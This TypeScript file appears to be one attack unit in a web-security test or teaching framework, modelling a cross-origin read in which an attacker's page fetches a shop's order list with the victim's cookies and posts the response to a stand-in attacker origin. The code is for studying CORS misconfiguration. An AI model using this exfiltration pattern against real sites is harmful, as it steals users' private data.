/** Script of another site’s page asks for the orders with the victim’s cookies, and reads the answer where the shop lets any origin. Not: a change (csrf-fetch.ts). */
import { document } from '#sources/sources';
import { ORIGIN } from '../origins';
import { ATTACKER_ORIGIN } from '../origins';
import { THIRD_PARTY_COOKIES } from '../attacker/assumed';
import type { AttackUnit } from '../attacker/attack';

export default {
  order: 23,
  group: 'requests from elsewhere',
  label: 'Reading across origins',
  also: ['CORS'],
  says: 'Script on the attacker’s page requests the victim’s orders from the shop, with cookies. It sends home any answer that it may read.',
  grants: ['a page that the victim opens'],
  sources: [document('fetch', 'section 3.3')],
  scene: ['log-in', 'read-orders'],
  assumes: [THIRD_PARTY_COOKIES],
  presupposes: { crossSite: 'yes', defences: ['secure'] },
  play: async (hands) => {
    const page = await hands.ownPage();
    const { status, content } = await page.send('GET', `${ORIGIN}/orders`, [], undefined, {
      credentials: 'include',
    });
    if (status === 200)
      await page.send('POST', `${ATTACKER_ORIGIN}/collect`, [], content, { mode: 'no-cors' });
  },
} satisfies AttackUnit;
